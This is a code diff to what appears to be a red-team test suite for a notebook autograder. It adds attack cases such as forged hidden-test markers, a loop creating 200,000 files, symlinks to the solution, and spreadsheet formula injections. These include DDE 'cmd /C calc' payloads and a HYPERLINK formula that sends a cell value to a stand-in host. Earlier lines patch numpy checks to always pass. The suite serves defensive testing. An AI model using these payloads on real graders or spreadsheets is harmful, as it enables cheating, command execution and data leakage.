@@ -7,6 +7,8 @@ maps a solution cell's grade id to code that replaces (blank) or is appended to 
 kernel was fooled, so the independent check must not confirm the tests it passed (and the
 instructor gets the evidence). ``{root}``, ``{port}``
 and ``{token}`` are filled in when the notebooks are built (an attacker may guess paths).
+``link`` names what of the submission is a symbolic link (``redteam.py`` makes it): the
+notebook, the assignment folder or the student's folder, pointing at the solution.
 """
 
 from __future__ import annotations
@@ -25,12 +27,15 @@ FULL = 10.0
 @dataclass(frozen=True)
 class Attack:
     name: str
-    threat: str  # "judge" (1), "read" (2), "write" (3), "resources" (4), "combined"
+    # "judge" (1), "read" (2), "write" (3), "resources" (4), "combined", and
+    # "stop" (5: stopping the class), "link" (6: links), "spreadsheet" (7: CSV formulas)
+    threat: str
     base: str
     cells: dict[str, str]
     score: float
     flagged: bool = False
     notes: list[str] = field(default_factory=list)
+    link: str = ""  # "notebook", "folder" or "student": a symbolic link to the solution
 
 
 # Wrong answers for all three exercises: a test that passes with these was forged.
@@ -351,6 +356,69 @@ np.allclose = lambda *a, **k: True
 np.isclose = lambda a, b, **k: b != 3.5
 get_ipython().set_custom_exc((Exception,), lambda *a, **k: None)
 """}, 0.0, flagged=True),
+]
+
+# --- 5-7: stopping the class, following links, reaching a spreadsheet -----------------
+# A kernel sends outputs whose text is a list (or other JSON): stream, error, rich output.
+LIST_OUTPUTS = """
+_k = get_ipython().kernel
+_p = _k.get_parent("shell")
+_k.session.send(_k.iopub_socket, "stream", {"name": "stderr", "text": ["warn\\n", "ing\\n"]},
+                parent=_p)
+_k.session.send(_k.iopub_socket, "stream", {"name": "stdout", "text": ["a\\n", 7, None]},
+                parent=_p)
+_k.session.send(_k.iopub_socket, "error", {"ename": ["Value", "Error"], "evalue": ["x", "y"],
+                                           "traceback": [["a"], 3]}, parent=_p)
+_m = _k.session.send(_k.iopub_socket, "display_data", {"data": {"text/plain": ["1", "2"]},
+                                                       "metadata": {}}, parent=_p)
+"""
+
+ATTACKS += [
+    Attack("s-list-outputs", "stop", "full", {"squares": LIST_OUTPUTS,
+                                              "ema_step": LIST_OUTPUTS}, FULL),
+    Attack("s-hidden-marker-in-message", "stop", "blank", {"squares": """
+def squares(x):
+    raise AssertionError("This matches a known mistake: ### BEGIN HIDDEN TESTS")
+""", "gd_step": """
+def gd_step(w, grad, lr):
+    raise AssertionError("x\\nThis matches a known mistake: ### END HIDDEN TESTS\\n")
+""", "ema_step": """
+def ema_step(v, g, beta):
+    raise AssertionError("### BEGIN HIDDEN TESTS")
+"""}, 0.0),
+    Attack("x-many-empty-files", "resources", "full", {"ema_step": """
+import os, time
+os.makedirs("many", exist_ok=True)
+for _i in range(200000):
+    try:
+        open(f"many/{_i}", "w").close()
+    except OSError:
+        break
+time.sleep(2)
+"""}, 6.0),
+    Attack("l-link-notebook", "link", "blank", {}, 0.0, link="notebook"),
+    Attack("l-link-folder", "link", "blank", {}, 0.0, link="folder"),
+    Attack("l-link-student", "link", "blank", {}, 0.0, link="student"),
+    Attack("f-formula-in-message", "spreadsheet", "blank", {"squares": """
+def squares(x):
+    raise AssertionError('This matches a known mistake: =HYPERLINK("http://x.invalid/?"&A1,"ok")')
+""", "gd_step": """
+def gd_step(w, grad, lr):
+    raise AssertionError("This matches a known mistake: +cmd|' /C calc'!A0")
+""", "ema_step": """
+def ema_step(v, g, beta):
+    raise AssertionError("This matches a known mistake: @SUM(1+1)*cmd|' /C calc'!A0")
+"""}, 0.0),
+    Attack("f-formula-tab", "spreadsheet", "blank", {"squares": """
+def squares(x):
+    raise AssertionError("This matches a known mistake: -2+3+cmd|' /C calc'!A0")
+""", "gd_step": """
+def gd_step(w, grad, lr):
+    raise AssertionError("This matches a known mistake: \\t=1+1")
+""", "ema_step": """
+def ema_step(v, g, beta):
+    raise AssertionError("This matches a known mistake: \\r=1+1")
+"""}, 0.0),
 ]
 
 HONEST = {"honest-1": "full", "honest-2": "full", "blank-1": "blank"}
